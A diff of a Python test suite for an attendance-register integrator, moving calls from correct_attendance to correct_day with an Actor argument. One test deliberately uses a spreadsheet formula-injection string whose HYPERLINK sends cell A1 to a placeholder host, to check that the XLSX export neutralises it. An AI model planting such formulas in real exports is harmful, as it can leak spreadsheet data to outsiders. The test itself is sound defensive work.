@@ -16,13 +16,8 @@ from sqlalchemy import select
 
 from integrator.config import Rules
 from integrator.domain.types import MeetingProvider, ServiceModel, StaffRole
-from integrator.jobs.attendance.evaluate import (
-    REPORT_KIND,
-    CorrectionError,
-    correct_attendance,
-    evaluate_window,
-    report_key,
-)
+from integrator.jobs.attendance.corrections import Actor, CorrectionError, correct_day
+from integrator.jobs.attendance.evaluate import REPORT_KIND, evaluate_window, report_key
 from integrator.jobs.attendance.identity import map_identity, unmatched_attendees
 from integrator.reports.export import to_csv, to_xlsx
 from integrator.reports.register import build_month, build_week
@@ -243,8 +238,8 @@ def play_rest_of_week(week: Week) -> None:
     (phone,) = unmatched_attendees(week.store, week.org_id)
     map_identity(week.store, week.org_id, phone.source, phone.participant_key, week.clients["K-0006"],
                  week.coordinator_id)
-    correct_attendance(week.store, week.day_id("K-0005", "g-tue", TUE), "excused", "sairausloma (lääkärintodistus)",
-                       week.coordinator_id)
+    correct_day(week.store, week.day_id("K-0005", "g-tue", TUE), "excused", "sairausloma (lääkärintodistus)",
+                Actor.staff(week.coordinator_id))
     week.report_in("g-tue", THU)
     week.attended("K-0001", "g-tue", THU, (8, 0, 8, 20))
     week.attended("K-0005", "g-tue", THU, (8, 0, 8, 20), (8, 10, 8, 40))  # two devices: 40 min, not 50
@@ -283,10 +278,11 @@ def test_a_coordinators_decision_survives_every_later_sync_and_is_audited(week: 
 
 def test_a_correction_without_a_reason_is_refused(week: Week) -> None:
     week.sync()
-    with pytest.raises(CorrectionError, match="reason"):
-        correct_attendance(week.store, week.day_id("K-0004", "g-tue", TUE), "excused", "  ", week.coordinator_id)
-    with pytest.raises(CorrectionError, match="pending"):
-        correct_attendance(week.store, week.day_id("K-0004", "g-tue", TUE), "pending", "odotetaan", None)
+    with pytest.raises(CorrectionError, match="syy puuttuu"):
+        correct_day(week.store, week.day_id("K-0004", "g-tue", TUE), "excused", "  ",
+                Actor.staff(week.coordinator_id))
+    with pytest.raises(CorrectionError, match="'pending' ei ole ohjaajan päätös"):
+        correct_day(week.store, week.day_id("K-0004", "g-tue", TUE), "pending", "odotetaan", Actor("system"))
 
 
 def test_a_masked_phone_number_mapped_once_is_not_reused_for_the_next_meeting(week: Week) -> None:
@@ -364,7 +360,8 @@ def test_an_excused_day_breaks_the_streak(week: Week) -> None:
 
     week.sync()
     play_rest_of_week(week)
-    correct_attendance(week.store, week.day_id("K-0004", "g-tue", THU), "excused", "sairausloma", week.coordinator_id)
+    correct_day(week.store, week.day_id("K-0004", "g-tue", THU), "excused", "sairausloma",
+                Actor.staff(week.coordinator_id))
     with week.store.session() as s:
         result = queue_absence_alerts(s, week.org_id, RULES, today=date(2026, 11, 27))
     assert (result.streaks, result.queued) == (0, 0)
@@ -457,8 +454,8 @@ def test_before_the_next_sync_the_register_shows_a_day_no_longer_expected_and_do
 
 def test_a_coordinators_decision_on_a_day_no_longer_expected_still_stands(week: Week) -> None:
     week.sync()
-    correct_attendance(week.store, week.day_id("K-0001", "g-tue", THU), "present", "osallistui puhelimitse",
-                       week.coordinator_id)
+    correct_day(week.store, week.day_id("K-0001", "g-tue", THU), "present", "osallistui puhelimitse",
+                Actor.staff(week.coordinator_id))
     week.end_period("K-0001", WED)
     week.sync()
     reg = build_week(week.store, "testorg", "2026-W48", rules=RULES)
@@ -528,7 +525,8 @@ def test_a_correction_reason_that_looks_like_a_formula_is_plain_text_in_the_xlsx
 
     week.sync()
     reason = '=HYPERLINK("http://example.invalid/?d="&A1,"Lue lisää")'
-    correct_attendance(week.store, week.day_id("K-0004", "g-tue", TUE), "excused", reason, week.coordinator_id)
+    correct_day(week.store, week.day_id("K-0004", "g-tue", TUE), "excused", reason,
+                Actor.staff(week.coordinator_id))
     reg = build_month(week.store, "testorg", "2026-11", rules=RULES)
     ws = load_workbook(io.BytesIO(to_xlsx(reg)))["Korjaukset"]
     cell = ws.cell(2, 5)
